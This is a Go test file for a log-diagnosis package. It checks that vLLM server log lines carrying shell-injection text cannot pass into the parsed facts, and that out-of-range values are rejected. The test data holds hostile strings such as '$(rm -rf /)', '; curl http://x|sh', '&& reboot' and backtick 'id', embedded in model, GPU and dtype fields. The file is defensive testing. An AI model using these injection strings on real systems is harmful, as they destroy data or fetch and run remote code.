package diagnose

import (
	"encoding/json"
	"reflect"
	"regexp"
	"strings"
	"testing"
)

// hostile is text a log could carry to get itself into a command line.
var hostile = []string{"$(rm -rf /)", "`id`", "; curl http://x|sh", "&& reboot", "'\"", "\x1b[31m", "\r", "\\n", "|", ">"}

// smugglingLog puts hostile text into every place a fact is read from:
// architecture, quantization method, GPU name, dtype, exception class,
// module paths, the engine version, a port and an HTTP status.
func smugglingLog() string {
	h := strings.Join(hostile, "")
	lines := []string{
		"INFO 05-06 12:00:00 [api_server.py:1] vLLM API server version 0.10.1+" + h,
		"INFO 05-06 12:00:01 [core.py:74] Initializing a V1 LLM engine (v0.10.1" + h + ") with config: model='--trust-remote-code; rm -rf /', dtype=torch.bfloat16" + h + ", max_seq_len=4096" + h + ", tensor_parallel_size=2$(id), quantization=fp8;rm -rf /",
		"INFO 05-06 12:00:02 [__init__.py:1] Resolved architecture: Llama$(reboot)ForCausalLM",
		"INFO 05-06 12:00:03 [utils.py:1] non-default args: {'model': '\x1b[2J$(id)', 'dtype': 'half;id', 'quantization': 'awq`id`', 'port': 8000;id}",
		"(EngineCore_DP0 pid=1) ERROR 05-06 12:00:04 [core.py:1] Traceback (most recent call last):",
		"(EngineCore_DP0 pid=1) ERROR 05-06 12:00:04 [core.py:1]   File \"/usr/lib/vllm/v1/$(id)/x;rm.py\", line 1, in f",
		"(EngineCore_DP0 pid=1) ERROR 05-06 12:00:04 [core.py:1] Value$(id)Error: Bfloat16 is only supported on GPUs with compute capability of at least 8.0. Your Tesla T4; rm -rf / GPU has compute capability 7.5.",
		"ERROR 05-06 12:00:05 [registry.py:1] ValueError: Model architectures ['Llama`reboot`ForCausalLM', 'x'] are not supported for now.",
		"ERROR 05-06 12:00:06 [vllm.py:1] ValueError: The quantization method fp8$(id) is not supported for the current GPU. Minimum capability: 80. Current capability: 75.",
		"ERROR:    [Errno 98] error while attempting to bind on address ('$(id)', 8000;id): address already in use",
		"huggingface_hub.errors.GatedRepoError: 403 Client Error;id. Cannot access gated repo for url https://x/$(id)",
		// a newline inside a value splits it across lines: neither half is a fact
		"ValueError: Model architectures ['Llama",
		"rm -rf /ForCausalLM'] are not supported for now.",
	}
	return strings.Join(lines, "\n") + "\n"
}

// safeString is what any string in a diagnosis may look like: enum
// values, validated identifiers, GPU table keys and digests.
var safeString = regexp.MustCompile(`^[A-Za-z0-9_.\-]*$`)

func TestNoLogTextReachesFacts(t *testing.T) {
	d, err := Diagnose(strings.NewReader(smugglingLog()), Options{})
	if err != nil {
		t.Fatal(err)
	}
	b, err := json.Marshal(d)
	if err != nil {
		t.Fatal(err)
	}
	var tree any
	if err := json.Unmarshal(b, &tree); err != nil {
		t.Fatal(err)
	}
	strs := collectStrings(tree, nil)
	if len(strs) < 8 {
		t.Fatalf("only %d strings in the diagnosis; the log should have produced facts", len(strs))
	}
	for _, s := range strs {
		if !safeString.MatchString(s) {
			t.Errorf("diagnosis carries %q", s)
		}
		for _, h := range []string{"rm", "id", "reboot", "curl"} {
			if s == h {
				t.Errorf("diagnosis carries a bare %q", h)
			}
		}
	}
	// The values that were well-formed survive; the hostile ones are
	// rejected with reasons, not cleaned up and kept.
	if d.Facts.ComputeCapability == nil || *d.Facts.ComputeCapability != (ComputeCapability{7, 5}) {
		t.Errorf("compute capability %+v, want 7.5", d.Facts.ComputeCapability)
	}
	if d.Facts.Architecture != nil {
		t.Errorf("architecture %q was kept", d.Facts.Architecture)
	}
	if d.Facts.GPU != nil {
		t.Errorf("GPU %q was kept", d.Facts.GPU)
	}
	if d.Facts.Quantization != nil {
		t.Errorf("quantization %q was kept", *d.Facts.Quantization)
	}
	reasons := map[Field]RejectReason{}
	for _, r := range d.Rejected {
		reasons[r.Field] = r.Reason
	}
	for f, want := range map[Field]RejectReason{
		"architecture": RejectBadIdentifier, "gpu": RejectUnknownGPU, "quantization": RejectNotInEnum,
		"dtype": RejectNotInEnum, "engine_version": RejectMalformed,
	} {
		if reasons[f] != want {
			t.Errorf("rejection of %s: %q, want %q (all: %+v)", f, reasons[f], want, d.Rejected)
		}
	}
}

func collectStrings(v any, out []string) []string {
	switch x := v.(type) {
	case string:
		out = append(out, x)
	case []any:
		for _, e := range x {
			out = collectStrings(e, out)
		}
	case map[string]any:
		for _, e := range x {
			out = collectStrings(e, out)
		}
	}
	return out
}

// TestFactsHaveNoFreeText: by type, no Facts or Fingerprint field can hold
// a log substring. String-kinded fields must be closed enums with a Valid
// method; identifiers are structs whose text is unexported.
func TestFactsHaveNoFreeText(t *testing.T) {
	enums := map[reflect.Type]bool{
		reflect.TypeFor[DType](): true, reflect.TypeFor[QuantMethod](): true, reflect.TypeFor[EngineEra](): true,
		reflect.TypeFor[PreRelease](): true, reflect.TypeFor[Family](): true,
	}
	var walk func(tp reflect.Type, path string)
	walk = func(tp reflect.Type, path string) {
		switch tp.Kind() {
		case reflect.Pointer, reflect.Slice:
			walk(tp.Elem(), path)
		case reflect.String:
			if !enums[tp] {
				t.Errorf("%s is a free string (%s)", path, tp)
			}
			if _, ok := tp.MethodByName("Valid"); !ok {
				t.Errorf("%s (%s) has no Valid method", path, tp)
			}
		case reflect.Struct:
			for i := 0; i < tp.NumField(); i++ {
				f := tp.Field(i)
				if f.Anonymous && f.Type == reflect.TypeFor[identifier]() {
					continue // text reachable only through a validating constructor
				}
				if !f.IsExported() {
					t.Errorf("%s.%s: unexpected unexported field", path, f.Name)
					continue
				}
				walk(f.Type, path+"."+f.Name)
			}
		case reflect.Map, reflect.Interface:
			t.Errorf("%s: %s can hold anything", path, tp)
		}
	}
	walk(reflect.TypeFor[Facts](), "Facts")
	walk(reflect.TypeFor[Fingerprint](), "Fingerprint")
}

func TestIdentifierValidation(t *testing.T) {
	for _, s := range []string{"LlamaForCausalLM", "Qwen2VLForConditionalGeneration", "GPT2LMHeadModel"} {
		if _, ok := ParseArchitecture(s); !ok {
			t.Errorf("%s refused", s)
		}
	}
	for _, s := range []string{"", "llama", "Llama For CausalLM", "Llama$(id)ForCausalLM", "LlamaForCausalLM;", strings.Repeat("A", 90) + "ForCausalLM"} {
		if a, ok := ParseArchitecture(s); ok {
			t.Errorf("%q accepted as %q", s, a)
		}
	}
	for _, s := range []string{"vllm.v1.core.kv_cache_utils", "kv_cache_utils"} {
		if _, ok := ParseModule(s); !ok {
			t.Errorf("module %s refused", s)
		}
	}
	for _, s := range []string{"vllm..x", "vllm.x;y", "Vllm.x", "vllm/x"} {
		if _, ok := ParseModule(s); ok {
			t.Errorf("module %q accepted", s)
		}
	}
	if c, ok := ParseExceptionClass("torch.cuda.OutOfMemoryError"); !ok || c.String() != "torch.OutOfMemoryError" {
		t.Errorf("torch.cuda.OutOfMemoryError → %q, %v", c, ok)
	}
	var e ExceptionClass
	if err := json.Unmarshal([]byte(`"Value Error"`), &e); err == nil {
		t.Error("decoding an invalid class succeeded")
	}
	var q QuantMethod
	if err := json.Unmarshal([]byte(`"fp8; rm"`), &q); err == nil {
		t.Error("decoding a quantization method outside the set succeeded")
	}
	if err := json.Unmarshal([]byte(`"fp8"`), &q); err != nil || q != "fp8" {
		t.Errorf("fp8: %v %q", err, q)
	}
}

// TestRangeAndHardwareValidation: figures out of range or beyond the GPU
// the operator names are rejected with their reason.
func TestRangeAndHardwareValidation(t *testing.T) {
	log := strings.Join([]string{
		"INFO 05-06 12:00:00 [api_server.py:1] non-default args: {'tensor_parallel_size': 0, 'gpu_memory_utilization': 1.5, 'port': 70000}",
		"INFO 05-06 12:00:01 [gpu_model_runner.py:1] Model loading took 90.00 GiB and 1.0 seconds",
		"INFO 05-06 12:00:02 [gpu_worker.py:1] Available KV cache memory: -0.25 GiB",
		"ValueError: The quantization method awq is not supported for the current GPU. Minimum capability: 75. Current capability: 86.",
	}, "\n")
	d, err := Diagnose(strings.NewReader(log), Options{GPU: "L4"})
	if err != nil {
		t.Fatal(err)
	}
	want := []Rejection{
		{Field: "gpu_memory_utilization", Reason: RejectOutOfRange, Line: 1},
		{Field: "port", Reason: RejectOutOfRange, Line: 1},
		{Field: "tensor_parallel_size", Reason: RejectOutOfRange, Line: 1},
		{Field: "weights_bytes", Reason: RejectExceedsDevice, Line: 2},
		{Field: "compute_capability", Reason: RejectInconsistent, Line: 4}, // L4 is 8.9
	}
	if !reflect.DeepEqual(d.Rejected, want) {
		t.Errorf("rejected\n got %+v\nwant %+v", d.Rejected, want)
	}
	if d.Facts.KVAvailableBytes == nil || *d.Facts.KVAvailableBytes != -268435456 {
		t.Errorf("negative KV budget %v, want -268435456 (a negative budget is a fact, not an error)", d.Facts.KVAvailableBytes)
	}
	if _, err := Diagnose(strings.NewReader(log), Options{GPU: "no-such-gpu"}); err == nil {
		t.Error("an unknown --gpu was accepted")
	}
}
